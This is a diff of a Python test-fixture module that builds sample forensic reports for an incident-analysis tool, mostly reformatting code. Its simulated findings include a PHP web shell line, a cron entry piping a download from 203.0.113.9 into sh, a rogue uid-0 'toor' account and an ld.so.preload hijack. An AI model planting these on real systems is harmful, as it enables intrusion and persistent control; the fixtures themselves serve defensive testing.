@@ -4,6 +4,7 @@ A report is a dict as evidence/report/DATA.md has it. `page_of` fills the page's
 """
 
 import base64
+import functools
 import hashlib
 import html
 import json
@@ -24,6 +25,7 @@ RAW = ATTACK + "\x1b[31m\u202egpj.exe\u2066\u0000\ud7ff&lt;b&gt;"
 """The same with what `exhibit report` would have escaped: the page is not to need that."""
 
 
+@functools.lru_cache(maxsize=4)
 def time_text(t):
     return datetime.fromtimestamp(t / 1000, UTC).strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z"
 
@@ -44,17 +46,38 @@ def reason(name, text, level, *techniques, aspect="place"):
 def file(subject, change, rank, minutes, reasons=(), **more):
     t = BEGIN + minutes * MINUTE
     base = {
-        "by": "both", "verdict": "since_start", "c": 0, "kind": "file", "change": change, "subject": subject, "rank": rank,
-        "reasons": list(reasons), "layer": "upper", "type": "file", "size": 4096, "mode": "-rw-r--r--",
-        "owner": "0:0", "sha256": digest(subject), "captured": rank < 4, **at(mtime=t, ctime=t, btime=t),
-    }  # fmt: skip
+        "by": "both",
+        "verdict": "since_start",
+        "c": 0,
+        "kind": "file",
+        "change": change,
+        "subject": subject,
+        "rank": rank,
+        "reasons": list(reasons),
+        "layer": "upper",
+        "type": "file",
+        "size": 4096,
+        "mode": "-rw-r--r--",
+        "owner": "0:0",
+        "sha256": digest(subject),
+        "captured": rank < 4,
+        **at(mtime=t, ctime=t, btime=t),
+    }
     if change == "modified":
         base |= {"size_before": 3990, "sha256_before": digest(subject + "before"), "details": ["content"]}
     return base | more
 
 
 def other(kind, change, subject, rank, reasons=(), **more):
-    return {"by": "diff", "c": 0, "kind": kind, "change": change, "subject": subject, "rank": rank, "reasons": list(reasons)} | more
+    return {
+        "by": "diff",
+        "c": 0,
+        "kind": kind,
+        "change": change,
+        "subject": subject,
+        "rank": rank,
+        "reasons": list(reasons),
+    } | more
 
 
 def small():
@@ -68,35 +91,104 @@ def small():
     times = reason("times", "its content is younger than its modification time", 3, "T1070.006", aspect="times")
     passwd = reason("accounts", "an account with uid 0 that was not there", 1, "T1136.001", aspect="account")
     key = reason("ssh-key", "who has the key can log in", 2, "T1098.004")
-    socket = reason("beacon", "connected to an address outside, by a program that is not of the image", 1, "T1071", aspect="use")
+    socket = reason(
+        "beacon", "connected to an address outside, by a program that is not of the image", 1, "T1071", aspect="use"
+    )
     package = reason("package", "belongs to coreutils 9.1-1, which has another digest", 2, "T1554", aspect="package")
-    before = {"pid": 4242, "comm": "nginx", "exe": "/usr/sbin/nginx", "uid": [33, 33, 33, 33], "caps": {"eff": "0000000000000000"}}
-    after = {"pid": 4242, "comm": "kworker/0:1", "exe": "/tmp/.x (deleted)", "uid": [0, 0, 0, 0], "caps": {"eff": "000001ffffffffff"}}
+    before = {
+        "pid": 4242,
+        "comm": "nginx",
+        "exe": "/usr/sbin/nginx",
+        "uid": [33, 33, 33, 33],
+        "caps": {"eff": "0000000000000000"},
+    }
+    after = {
+        "pid": 4242,
+        "comm": "kworker/0:1",
+        "exe": "/tmp/.x (deleted)",
+        "uid": [0, 0, 0, 0],
+        "caps": {"eff": "000001ffffffffff"},
+    }
     findings = [
-        file("/tmp/.x", "added", 1, 131, [suid, running, hidden], size=912384, mode="-rwsr-xr-x", package="of no package"),
+        file(
+            "/tmp/.x", "added", 1, 131, [suid, running, hidden], size=912384, mode="-rwsr-xr-x", package="of no package"
+        ),
         file("/var/www/html/uploads/avatar.php", "added", 1, 122, [shell, times], text=0, owner="33:33"),
         file("/etc/ld.so.preload", "added", 1, 133, [preload], text=1, size=24),
         file("/etc/passwd", "modified", 1, 134, [passwd], text=2, details=["content", "size 922 → 961"]),
-        other("process", "added", "4242 /tmp/.x", 1, [running, socket], pid=4242, before=before, after=after, events=["respawned"]),
-        other("socket", "added", "tcp 10.0.0.2:51724 → 203.0.113.9:4444", 1, [socket], after={"protocol": "tcp", "state": "established"}),
+        other(
+            "process",
+            "added",
+            "4242 /tmp/.x",
+            1,
+            [running, socket],
+            pid=4242,
+            before=before,
+            after=after,
+            events=["respawned"],
+        ),
+        other(
+            "socket",
+            "added",
+            "tcp 10.0.0.2:51724 → 203.0.113.9:4444",
+            1,
+            [socket],
+            after={"protocol": "tcp", "state": "established"},
+        ),
         file("/etc/cron.d/logrotate", "added", 2, 135, [cron], text=3, size=61),
         file("/root/.ssh/authorized_keys", "modified", 2, 136, [key], text=4),
         file("/bin/ls", "modified", 2, 138, [package, times], size=151344, size_before=138208, mode="-rwxr-xr-x"),
         other("user", "added", "toor (uid 0)", 2, [passwd], after={"name": "toor", "uid": 0, "shell": "/bin/bash"}),
-        file("/usr/lib/libselinux-ext.so", "added", 2, 132, [reason("library", "a library in no package", 2, "T1574.006")]),
+        file(
+            "/usr/lib/libselinux-ext.so",
+            "added",
+            2,
+            132,
+            [reason("library", "a library in no package", 2, "T1574.006")],
+        ),
         file("/etc/nginx/nginx.conf", "modified", 3, 20, [reason("config", "configuration of a service", 3)], text=5),
         file("/var/log/nginx/access.log", "removed", 3, 140, [reason("log", "a log that is gone", 3, "T1070.002")]),
-        other("mount", "added", "/mnt/host", 3, [reason("mount", "a mount that the image does not have", 3, "T1611")], after={"fstype": "ext4"}),
-        other("environment", "modified", "PATH of process 1", 3, [reason("path", "the search path begins with /tmp", 3, "T1574.007")],
-              before={"PATH": "/usr/sbin:/usr/bin"}, after={"PATH": "/tmp:/usr/sbin:/usr/bin"}),
-        file("/opt/b\\x1b[31m\\u{202e}gpj", "added", 3, 137, [hidden], subject_b64=base64.b64encode(b"/opt/b\x1b[31m\xe2\x80\xaegpj").decode()),
+        other(
+            "mount",
+            "added",
+            "/mnt/host",
+            3,
+            [reason("mount", "a mount that the image does not have", 3, "T1611")],
+            after={"fstype": "ext4"},
+        ),
+        other(
+            "environment",
+            "modified",
+            "PATH of process 1",
+            3,
+            [reason("path", "the search path begins with /tmp", 3, "T1574.007")],
+            before={"PATH": "/usr/sbin:/usr/bin"},
+            after={"PATH": "/tmp:/usr/sbin:/usr/bin"},
+        ),
+        file(
+            "/opt/b\\x1b[31m\\u{202e}gpj",
+            "added",
+            3,
+            137,
+            [hidden],
+            subject_b64=base64.b64encode(b"/opt/b\x1b[31m\xe2\x80\xaegpj").decode(),
+        ),
         file("/srv/moved-to-here", "moved", 4, 61, [reason("moved", "was elsewhere", 4)], **{"from": "/srv/was/there"}),
         file("/etc/mtab", "unknown", 4, 2, details=["A could not read it: permission denied"]),
         *(file(f"/var/cache/apt/pkg{n}.bin", "added", 5, -40 + n) for n in range(40)),
         *(file(f"/usr/share/doc/package{n}/copyright", "metadata", 5, -DAY * 90 / MINUTE + n * 7) for n in range(60)),
         *(file(f"/var/lib/app/state/{n % 7}/{n}.json", "modified", 5, n * 3.1, c=1, by="diff") for n in range(50)),
-        file("/app/config/settings.py", "modified", 3, 64, [reason("config", "configuration of a service", 3)], c=1, by="diff", text=6),
-    ]  # fmt: skip
+        file(
+            "/app/config/settings.py",
+            "modified",
+            3,
+            64,
+            [reason("config", "configuration of a service", 3)],
+            c=1,
+            by="diff",
+            text=6,
+        ),
+    ]
     for f, finding in enumerate(findings):
         finding["order"] = f
     findings.sort(key=lambda finding: finding["rank"])
@@ -122,8 +214,15 @@ def small():
             "quiet": 12,
             "timeline_left_out": 1234,
             "story": [
-                {"text": text, "rank": rank, "fs": [names[one] for one in fs], **({} if m is None else at(t=BEGIN + m * MINUTE)),
-                 "techniques": sorted({t for one in fs for r in findings[names[one]]["reasons"] for t in r["techniques"]})}
+                {
+                    "text": text,
+                    "rank": rank,
+                    "fs": [names[one] for one in fs],
+                    **({} if m is None else at(t=BEGIN + m * MINUTE)),
+                    "techniques": sorted(
+                        {t for one in fs for r in findings[names[one]]["reasons"] for t in r["techniques"]}
+                    ),
+                }
                 for text, m, rank, fs in story
             ],
         },
@@ -131,34 +230,150 @@ def small():
         "processes": processes,
         "texts": texts,
         "mounts": [
-            {"c": 0, "path": "/", "fstype": "overlay", "source": "overlay", "options": "rw,relatime", "decision": "walked", "change": "same"},
-            {"c": 0, "path": "/proc", "fstype": "proc", "source": "proc", "options": "rw,nosuid", "decision": "skipped", "reason": "a kernel file system", "change": "same"},
-            {"c": 0, "path": "/mnt/host", "fstype": "ext4", "source": "/dev/sda1", "options": "rw", "decision": "walked", "change": "added", "fs": [names["/mnt/host"]]},
-            {"c": 1, "path": "/", "fstype": "overlay", "source": "overlay", "options": "rw,relatime", "decision": "walked", "change": "same"},
+            {
+                "c": 0,
+                "path": "/",
+                "fstype": "overlay",
+                "source": "overlay",
+                "options": "rw,relatime",
+                "decision": "walked",
+                "change": "same",
+            },
+            {
+                "c": 0,
+                "path": "/proc",
+                "fstype": "proc",
+                "source": "proc",
+                "options": "rw,nosuid",
+                "decision": "skipped",
+                "reason": "a kernel file system",
+                "change": "same",
+            },
+            {
+                "c": 0,
+                "path": "/mnt/host",
+                "fstype": "ext4",
+                "source": "/dev/sda1",
+                "options": "rw",
+                "decision": "walked",
+                "change": "added",
+                "fs": [names["/mnt/host"]],
+            },
+            {
+                "c": 1,
+                "path": "/",
+                "fstype": "overlay",
+                "source": "overlay",
+                "options": "rw,relatime",
+                "decision": "walked",
+                "change": "same",
+            },
         ],
         "sockets": [
-            {"c": 0, "netns": "4026531840", "protocol": "tcp", "local": "0.0.0.0:80", "remote": "0.0.0.0:0", "state": "listen", "pid": 1, "process": "nginx", "change": "same"},
-            {"c": 0, "netns": "4026531840", "protocol": "tcp", "local": "10.0.0.2:51724", "remote": "203.0.113.9:4444", "state": "established", "pid": 4242,
-             "process": "kworker/0:1", "change": "added", "fs": [names["tcp 10.0.0.2:51724 → 203.0.113.9:4444"]]},
-            {"c": 1, "netns": "4026532001", "protocol": "tcp", "local": "127.0.0.1:8000", "remote": "0.0.0.0:0", "state": "listen", "pid": 900, "process": "gunicorn", "change": "same"},
+            {
+                "c": 0,
+                "netns": "4026531840",
+                "protocol": "tcp",
+                "local": "0.0.0.0:80",
+                "remote": "0.0.0.0:0",
+                "state": "listen",
+                "pid": 1,
+                "process": "nginx",
+                "change": "same",
+            },
+            {
+                "c": 0,
+                "netns": "4026531840",
+                "protocol": "tcp",
+                "local": "10.0.0.2:51724",
+                "remote": "203.0.113.9:4444",
+                "state": "established",
+                "pid": 4242,
+                "process": "kworker/0:1",
+                "change": "added",
+                "fs": [names["tcp 10.0.0.2:51724 → 203.0.113.9:4444"]],
+            },
+            {
+                "c": 1,
+                "netns": "4026532001",
+                "protocol": "tcp",
+                "local": "127.0.0.1:8000",
+                "remote": "0.0.0.0:0",
+                "state": "listen",
+                "pid": 900,
+                "process": "gunicorn",
+                "change": "same",
+            },
         ],
-        "ledger": {"sides": [
-            {"side": "A", "outcomes": {"ok": 3212}, "gaps": []},
-            {"side": "B", "outcomes": {"ok": 3291, "changed": 2, "denied": 1, "vanished": 1}, "gaps": [
-                {"kind": "file", "outcome": "changed", "subject": "/var/log/nginx/error.log", "reason": "size moved while it was read", "c": 0},
-                {"kind": "process", "outcome": "vanished", "subject": "4310/maps", "reason": "the process ended", "c": 0},
-                {"kind": "file", "outcome": "denied", "subject": "/etc/mtab", "reason": "permission denied", "c": 0},
-            ]},
-        ]},
+        "ledger": {
+            "sides": [
+                {"side": "A", "outcomes": {"ok": 3212}, "gaps": []},
+                {
+                    "side": "B",
+                    "outcomes": {"ok": 3291, "changed": 2, "denied": 1, "vanished": 1},
+                    "gaps": [
+                        {
+                            "kind": "file",
+                            "outcome": "changed",
+                            "subject": "/var/log/nginx/error.log",
+                            "reason": "size moved while it was read",
+                            "c": 0,
+                        },
+                        {
+                            "kind": "process",
+                            "outcome": "vanished",
+                            "subject": "4310/maps",
+                            "reason": "the process ended",
+                            "c": 0,
+                        },
+                        {
+                            "kind": "file",
+                            "outcome": "denied",
+                            "subject": "/etc/mtab",
+                            "reason": "permission denied",
+                            "c": 0,
+                        },
+                    ],
+                },
+            ]
+        },
         "verification": [
-            {"side": "A", "verdict": "AUTHENTIC", "seal_sha256": digest("seal"), "sentence": "The seal is signed by a key that is trusted, and every member has its digest.",
-             "signatures": ["Ed25519 by SHA256:k3yk3yk3y, trusted as analyst@example.org"], "time_stamps": ["2026-11-24T09:50:11Z by Example TSA"],
-             "custody": [{"t_text": "2026-11-24T09:51:00Z", "event": "collected", "who": "m.weber", "where": "host web-1", "why": "case 2026-118", "hash_state": "as now"},
-                         {"t_text": "2026-11-25T08:12:00Z", "event": "received", "who": "i.okafor", "where": "laboratory", "why": "analysis", "hash_state": "as now"}],
-             "custody_verdict": "WHOLE"},
-            {"side": "B", "verdict": "CONSISTENT-UNSIGNED", "sentence": "Every member has its digest; no signature was given.", "faults": [], "custody": []},
+            {
+                "side": "A",
+                "verdict": "AUTHENTIC",
+                "seal_sha256": digest("seal"),
+                "sentence": "The seal is signed by a key that is trusted, and every member has its digest.",
+                "signatures": ["Ed25519 by SHA256:k3yk3yk3y, trusted as analyst@example.org"],
+                "time_stamps": ["2026-11-24T09:50:11Z by Example TSA"],
+                "custody": [
+                    {
+                        "t_text": "2026-11-24T09:51:00Z",
+                        "event": "collected",
+                        "who": "m.weber",
+                        "where": "host web-1",
+                        "why": "case 2026-118",
+                        "hash_state": "as now",
+                    },
+                    {
+                        "t_text": "2026-11-25T08:12:00Z",
+                        "event": "received",
+                        "who": "i.okafor",
+                        "where": "laboratory",
+                        "why": "analysis",
+                        "hash_state": "as now",
+                    },
+                ],
+                "custody_verdict": "WHOLE",
+            },
+            {
+                "side": "B",
+                "verdict": "CONSISTENT-UNSIGNED",
+                "sentence": "Every member has its digest; no signature was given.",
+                "faults": [],
+                "custody": [],
+            },
         ],
-    }  # fmt: skip
+    }
     return finish(report)
 
 
@@ -167,16 +382,115 @@ def small_processes(names):
     listen = ["tcp 0.0.0.0:80 listen"]
     out = ["tcp 10.0.0.2:51724 → 203.0.113.9:4444 established"]
     return [
-        {"c": 0, "pid": 1, "ppid": 0, "name": "nginx", "exe": "/usr/sbin/nginx", "cmdline": "nginx: master process nginx -g 'daemon off;'", "uid": 0, **at(t_start=base), "change": "same", "rank": 5, "sockets": listen, "outcome": "ok"},
-        {"c": 0, "pid": 30, "ppid": 1, "name": "nginx", "exe": "/usr/sbin/nginx", "cmdline": "nginx: worker process", "uid": 33, **at(t_start=base + 900), "change": "same", "rank": 5, "outcome": "ok"},
-        {"c": 0, "pid": 31, "ppid": 1, "name": "nginx", "exe": "/usr/sbin/nginx", "cmdline": "nginx: worker process", "uid": 33, **at(t_start=base + 901), "change": "ended", "rank": 4, "outcome": "ok"},
-        {"c": 0, "pid": 44, "ppid": 1, "name": "php-fpm", "exe": "/usr/sbin/php-fpm8.2", "cmdline": "php-fpm: pool www", "uid": 33, **at(t_start=base + 2000), "change": "same", "rank": 4, "outcome": "ok"},
-        {"c": 0, "pid": 4200, "ppid": 44, "name": "sh", "exe": "/bin/dash", "cmdline": "sh -c /tmp/.x", "uid": 33, **at(t_start=BEGIN + 131.2 * MINUTE), "change": "started", "rank": 2, "outcome": "ok"},
-        {"c": 0, "pid": 4242, "ppid": 4200, "name": "kworker/0:1", "exe": "/tmp/.x", "cmdline": "[kworker/0:1]", "uid": 0, **at(t_start=BEGIN + 131.5 * MINUTE), "change": "started", "rank": 1,
-         "fs": [names["/tmp/.x"], names["4242 /tmp/.x"]], "sockets": out, "outcome": "ok"},
-        {"c": 1, "pid": 900, "ppid": 0, "name": "gunicorn", "exe": "/usr/bin/python3.11", "cmdline": "python3 -m gunicorn app:app", "uid": 1000, **at(t_start=base + 60000), "change": "same", "rank": 5, "sockets": ["tcp 127.0.0.1:8000 listen"], "outcome": "ok"},
-        {"c": 1, "pid": 912, "ppid": 900, "name": "gunicorn", "exe": "/usr/bin/python3.11", "cmdline": "python3 -m gunicorn app:app", "uid": 1000, **at(t_start=BEGIN + 66 * MINUTE), "change": "respawned", "rank": 4, "outcome": "ok"},
-    ]  # fmt: skip
+        {
+            "c": 0,
+            "pid": 1,
+            "ppid": 0,
+            "name": "nginx",
+            "exe": "/usr/sbin/nginx",
+            "cmdline": "nginx: master process nginx -g 'daemon off;'",
+            "uid": 0,
+            **at(t_start=base),
+            "change": "same",
+            "rank": 5,
+            "sockets": listen,
+            "outcome": "ok",
+        },
+        {
+            "c": 0,
+            "pid": 30,
+            "ppid": 1,
+            "name": "nginx",
+            "exe": "/usr/sbin/nginx",
+            "cmdline": "nginx: worker process",
+            "uid": 33,
+            **at(t_start=base + 900),
+            "change": "same",
+            "rank": 5,
+            "outcome": "ok",
+        },
+        {
+            "c": 0,
+            "pid": 31,
+            "ppid": 1,
+            "name": "nginx",
+            "exe": "/usr/sbin/nginx",
+            "cmdline": "nginx: worker process",
+            "uid": 33,
+            **at(t_start=base + 901),
+            "change": "ended",
+            "rank": 4,
+            "outcome": "ok",
+        },
+        {
+            "c": 0,
+            "pid": 44,
+            "ppid": 1,
+            "name": "php-fpm",
+            "exe": "/usr/sbin/php-fpm8.2",
+            "cmdline": "php-fpm: pool www",
+            "uid": 33,
+            **at(t_start=base + 2000),
+            "change": "same",
+            "rank": 4,
+            "outcome": "ok",
+        },
+        {
+            "c": 0,
+            "pid": 4200,
+            "ppid": 44,
+            "name": "sh",
+            "exe": "/bin/dash",
+            "cmdline": "sh -c /tmp/.x",
+            "uid": 33,
+            **at(t_start=BEGIN + 131.2 * MINUTE),
+            "change": "started",
+            "rank": 2,
+            "outcome": "ok",
+        },
+        {
+            "c": 0,
+            "pid": 4242,
+            "ppid": 4200,
+            "name": "kworker/0:1",
+            "exe": "/tmp/.x",
+            "cmdline": "[kworker/0:1]",
+            "uid": 0,
+            **at(t_start=BEGIN + 131.5 * MINUTE),
+            "change": "started",
+            "rank": 1,
+            "fs": [names["/tmp/.x"], names["4242 /tmp/.x"]],
+            "sockets": out,
+            "outcome": "ok",
+        },
+        {
+            "c": 1,
+            "pid": 900,
+            "ppid": 0,
+            "name": "gunicorn",
+            "exe": "/usr/bin/python3.11",
+            "cmdline": "python3 -m gunicorn app:app",
+            "uid": 1000,
+            **at(t_start=base + 60000),
+            "change": "same",
+            "rank": 5,
+            "sockets": ["tcp 127.0.0.1:8000 listen"],
+            "outcome": "ok",
+        },
+        {
+            "c": 1,
+            "pid": 912,
+            "ppid": 900,
+            "name": "gunicorn",
+            "exe": "/usr/bin/python3.11",
+            "cmdline": "python3 -m gunicorn app:app",
+            "uid": 1000,
+            **at(t_start=BEGIN + 66 * MINUTE),
+            "change": "respawned",
+            "rank": 4,
+            "outcome": "ok",
+        },
+    ]
 
 
 def small_texts(where, names):
@@ -189,14 +503,35 @@ def small_texts(where, names):
     texts = [
         of("/var/www/html/uploads/avatar.php", hunk(0, 1, "+GIF89a", "+<?php system($_REQUEST['c']); ?>")),
         of("/etc/ld.so.preload", hunk(0, 1, "+/usr/lib/libselinux-ext.so")),
-        of("/etc/passwd", hunk(16, 16, " gnats:x:41:41:Gnats:/var/lib/gnats:/usr/sbin/nologin", " nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin",
-                               " _apt:x:42:65534::/nonexistent:/usr/sbin/nologin", "+toor:x:0:0::/root:/bin/bash")),
+        of(
+            "/etc/passwd",
+            hunk(
+                16,
+                16,
+                " gnats:x:41:41:Gnats:/var/lib/gnats:/usr/sbin/nologin",
+                " nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin",
+                " _apt:x:42:65534::/nonexistent:/usr/sbin/nologin",
+                "+toor:x:0:0::/root:/bin/bash",
+            ),
+        ),
         of("/etc/cron.d/logrotate", hunk(0, 1, "+*/5 * * * * root curl -fsS http://203.0.113.9/u | sh")),
         of("/root/.ssh/authorized_keys", why_not="content of A was not captured", hunks=[]) | {"hunks": []},
-        of("/etc/nginx/nginx.conf", hunk(10, 10, " http {", "-    client_max_body_size 1m;", "+    client_max_body_size 64m;", "     sendfile on;", "     tcp_nopush on;"),
-           hunk(40, 40, "     server {", "+        location /uploads { try_files $uri =404; }", "         listen 80;"), cut=True),
+        of(
+            "/etc/nginx/nginx.conf",
+            hunk(
+                10,
+                10,
+                " http {",
+                "-    client_max_body_size 1m;",
+                "+    client_max_body_size 64m;",
+                "     sendfile on;",
+                "     tcp_nopush on;",
+            ),
+            hunk(40, 40, "     server {", "+        location /uploads { try_files $uri =404; }", "         listen 80;"),
+            cut=True,
+        ),
         of("/app/config/settings.py", hunk(3, 3, " import os", "-DEBUG = False", "+DEBUG = True", " ")),
-    ]  # fmt: skip
+    ]
     assert where
     return texts
 
@@ -213,41 +548,108 @@ def finish(report, containers=2):
             counts[finding[field]] = counts.get(finding[field], 0) + 1
         for technique in {t for r in finding["reasons"] for t in r["techniques"]}:
             techniques.setdefault(technique, []).append(f)
-    tactics = {"T1053.003": "Persistence", "T1505.003": "Persistence", "T1136.001": "Persistence", "T1098.004": "Persistence", "T1548.001": "Privilege Escalation",
-               "T1059": "Execution", "T1574.006": "Persistence", "T1071": "Command and Control", "T1611": "Privilege Escalation"}  # fmt: skip
+    tactics = {
+        "T1053.003": "Persistence",
+        "T1505.003": "Persistence",
+        "T1136.001": "Persistence",
+        "T1098.004": "Persistence",
+        "T1548.001": "Privilege Escalation",
+        "T1059": "Execution",
+        "T1574.006": "Persistence",
+        "T1071": "Command and Control",
+        "T1611": "Privilege Escalation",
+    }
     kinds = ["web", "api", "cache", "queue"]
     summary |= {
         "made_text": "2026-11-26T09:00:00Z",
         "tool": "exhibit 0.1.0",
         "bundles": [
-            {"side": side, "name": f"web-{n}.tar", "sha256": digest(side), "id": digest(side)[:32], "host": "web-1", "machine_id": digest("m")[:32], "boot_id": digest("b")[:32],
-             **at(t_begin=BEGIN + n * 150 * MINUTE, t_end=BEGIN + n * 150 * MINUTE + 41_000), "collector": "exhibit-collect 0.1.0", "status": ["complete", "partial"][n], "withheld": n * 2}
+            {
+                "side": side,
+                "name": f"web-{n}.tar",
+                "sha256": digest(side),
+                "id": digest(side)[:32],
+                "host": "web-1",
+                "machine_id": digest("m")[:32],
+                "boot_id": digest("b")[:32],
+                **at(t_begin=BEGIN + n * 150 * MINUTE, t_end=BEGIN + n * 150 * MINUTE + 41_000),
+                "collector": "exhibit-collect 0.1.0",
+                "status": ["complete", "partial"][n],
+                "withheld": n * 2,
+            }
             for n, side in enumerate("AB")
         ],
         "containers": [
-            {"name": kinds[c % 4] + ("" if c < 4 else str(c)), "id": digest(c), "runtime": "docker", "image": f"example/{kinds[c % 4]}:1.27", "image_digest": "sha256:" + digest(c), "pid": 800 + c,
-             "state": "running", "on": "AB", **at(t_start=BEGIN - 3 * DAY), "ranks": ranks[c]}
+            {
+                "name": kinds[c % 4] + ("" if c < 4 else str(c)),
+                "id": digest(c),
+                "runtime": "docker",
+                "image": f"example/{kinds[c % 4]}:1.27",
+                "image_digest": "sha256:" + digest(c),
+                "pid": 800 + c,
+                "state": "running",
+                "on": "AB",
+                **at(t_start=BEGIN - 3 * DAY),
+                "ranks": ranks[c],
+            }
             for c in range(containers)
         ],
         "ranks": [sum(of[n] for of in ranks) for n in range(5)],
-        "changes": counted["change"], "kinds": counted["kind"],
-        "techniques": [{"id": t, "name": "Technique " + t, "tactic": tactics.get(t, "Defense Evasion"), "fs": fs} for t, fs in sorted(techniques.items())],
-    }  # fmt: skip
+        "changes": counted["change"],
+        "kinds": counted["kind"],
+        "techniques": [
+            {"id": t, "name": "Technique " + t, "tactic": tactics.get(t, "Defense Evasion"), "fs": fs}
+            for t, fs in sorted(techniques.items())
+        ],
+    }
     timeline = report.setdefault("timeline", [])
     for f, finding in enumerate(findings):
         if finding["kind"] == "file" and len(timeline) < 190_000:
             for field, what in (("mtime", "modified"), ("btime", "born")):
                 if field in finding:
-                    timeline.append({**at(t=finding[field]), "what": what, "label": finding["subject"], "c": finding["c"], "f": f, "rank": finding["rank"]})
+                    timeline.append(
+                        {
+                            **at(t=finding[field]),
+                            "what": what,
+                            "label": finding["subject"],
+                            "c": finding["c"],
+                            "f": f,
+                            "rank": finding["rank"],
+                        }
+                    )
     for process in report["processes"]:
-        timeline.append({**at(t=process["t_start"]), "what": "started", "label": f"{process['pid']} {process['cmdline']}", "c": process["c"], "rank": process["rank"],
-                         **({"f": process["fs"][0]} if process.get("fs") else {})})  # fmt: skip
+        timeline.append(
+            {
+                **at(t=process["t_start"]),
+                "what": "started",
+                "label": f"{process['pid']} {process['cmdline']}",
+                "c": process["c"],
+                "rank": process["rank"],
+                **({"f": process["fs"][0]} if process.get("fs") else {}),
+            }
+        )
     for bundle in summary["bundles"]:
         timeline.append({**at(t=bundle["t_begin"]), "what": "capture-begun", "label": bundle["name"], "rank": 5})
         timeline.append({**at(t=bundle["t_end"]), "what": "capture-ended", "label": bundle["name"], "rank": 5})
     for c in range(containers):
-        timeline.append({**at(t=BEGIN - 3 * DAY - 1000), "what": "container-created", "label": summary["containers"][c]["name"], "c": c, "rank": 5})
-        timeline.append({**at(t=BEGIN - 3 * DAY), "what": "container-started", "label": summary["containers"][c]["name"], "c": c, "rank": 5})
+        timeline.append(
+            {
+                **at(t=BEGIN - 3 * DAY - 1000),
+                "what": "container-created",
+                "label": summary["containers"][c]["name"],
+                "c": c,
+                "rank": 5,
+            }
+        )
+        timeline.append(
+            {
+                **at(t=BEGIN - 3 * DAY),
+                "what": "container-started",
+                "label": summary["containers"][c]["name"],
+                "c": c,
+                "rank": 5,
+            }
+        )
     timeline.append({**at(t=BEGIN + 153 * MINUTE), "what": "custody", "label": "collected by m.weber", "rank": 5})
     timeline.sort(key=lambda moment: moment["t"])
     return {name: without_empty(value) for name, value in report.items()}
@@ -282,26 +684,64 @@ def hostile():
 def large(findings=100_000, moments=200_000, containers=12, seed=7):
     """As many findings and moments as the page is built for."""
     dice = random.Random(seed)
-    folders = [f"/usr/lib/{a}/{b}" for a in ("python3", "x86_64-linux-gnu", "node", "ruby") for b in range(200)] + [f"/var/lib/app/{n}" for n in range(400)]
+    folders = [f"/usr/lib/{a}/{b}" for a in ("python3", "x86_64-linux-gnu", "node", "ruby") for b in range(200)] + [
+        f"/var/lib/app/{n}" for n in range(400)
+    ]
     rows = []
     for n in range(findings):
         rank = 1 if n < 40 else 2 if n < 400 else 3 if n < 4000 else 4 if n < 20000 else 5
         when = dice.gauss(120, 8) if rank < 4 else dice.choice([dice.uniform(-500_000, 0), dice.uniform(-4000, 140)])
         reasons = [reason("cron", "runs at times that cron decides", rank, "T1053.003")] if rank < 4 else []
-        rows.append(file(f"{dice.choice(folders)}/file-{n:06}.so", dice.choice(["added", "modified", "metadata"]), rank, when, reasons, c=dice.randrange(containers)))
+        rows.append(
+            file(
+                f"{dice.choice(folders)}/file-{n:06}.so",
+                dice.choice(["added", "modified", "metadata"]),
+                rank,
+                when,
+                reasons,
+                c=dice.randrange(containers),
+            )
+        )
     processes = [
-        {"c": n % containers, "pid": 100 + n, "ppid": 0 if n < containers else 100 + dice.randrange(n // 2 // containers + 1) * containers + n % containers, "name": f"worker{n}", "exe": "/usr/bin/worker",
-         "cmdline": f"/usr/bin/worker --number {n}", "uid": 0, **at(t_start=BEGIN - dice.uniform(0, 4000) * MINUTE), "change": "same", "rank": 5, "outcome": "ok"}
+        {
+            "c": n % containers,
+            "pid": 100 + n,
+            "ppid": 0
+            if n < containers
+            else 100 + dice.randrange(n // 2 // containers + 1) * containers + n % containers,
+            "name": f"worker{n}",
+            "exe": "/usr/bin/worker",
+            "cmdline": f"/usr/bin/worker --number {n}",
+            "uid": 0,
+            **at(t_start=BEGIN - dice.uniform(0, 4000) * MINUTE),
+            "change": "same",
+            "rank": 5,
+            "outcome": "ok",
+        }
         for n in range(5000)
-    ]  # fmt: skip
+    ]
     report = {
-        "summary": {"title": "a whole host", "story": []}, "findings": rows, "processes": processes, "texts": [], "mounts": [], "sockets": [],
-        "ledger": {"sides": []}, "verification": [{"side": "B", "verdict": "CONSISTENT-UNSIGNED", "sentence": "Every member has its digest."}],
-    }  # fmt: skip
+        "summary": {"title": "a whole host", "story": []},
+        "findings": rows,
+        "processes": processes,
+        "texts": [],
+        "mounts": [],
+        "sockets": [],
+        "ledger": {"sides": []},
+        "verification": [{"side": "B", "verdict": "CONSISTENT-UNSIGNED", "sentence": "Every member has its digest."}],
+    }
     report = finish(report, containers)
     timeline = report["timeline"]
     while len(timeline) < moments:
-        timeline.append({**at(t=BEGIN - dice.uniform(0, 400_000) * MINUTE), "what": "changed", "label": "/var/lib/app", "c": 0, "rank": 5})
+        timeline.append(
+            {
+                **at(t=BEGIN - dice.uniform(0, 400_000) * MINUTE),
+                "what": "changed",
+                "label": "/var/lib/app",
+                "c": 0,
+                "rank": 5,
+            }
+        )
     timeline.sort(key=lambda moment: moment["t"])
     return report
 
@@ -312,13 +752,17 @@ def large(findings=100_000, moments=200_000, containers=12, seed=7):
 def page_script():
     """The script as embed_page.cmake puts it together."""
     names = (PAGE / "scripts.txt").read_text().split()
-    files = "".join(f"\n// --- {name}\n{(PAGE / name).read_text()}" for name in names)
+    files = "".join(f"\n// --- {name}\n{(PAGE / 'script' / name).read_text()}" for name in names)
     return f"(() => {{\n'use strict';\n{files}}})();\n"
+
+
+def page_style():
+    return "".join(f"{(PAGE / 'style' / name).read_text()}\n" for name in (PAGE / "styles.txt").read_text().split())
 
 
 def page_of(report):
     """The page as text."""
-    style, script = (PAGE / "report.css").read_text(), page_script()
+    style, script = page_style(), page_script()
 
     def sha256(text):
         return base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
@@ -328,9 +772,14 @@ def page_of(report):
         for name, value in report.items()
     )
     slots = {
-        "title": html.escape(report["summary"]["title"]), "style": style, "style_sha256": sha256(style),
-        "script": script, "script_sha256": sha256(script), "data": data, **static_slots(report),
-    }  # fmt: skip
+        "title": html.escape(report["summary"]["title"]),
+        "style": style,
+        "style_sha256": sha256(style),
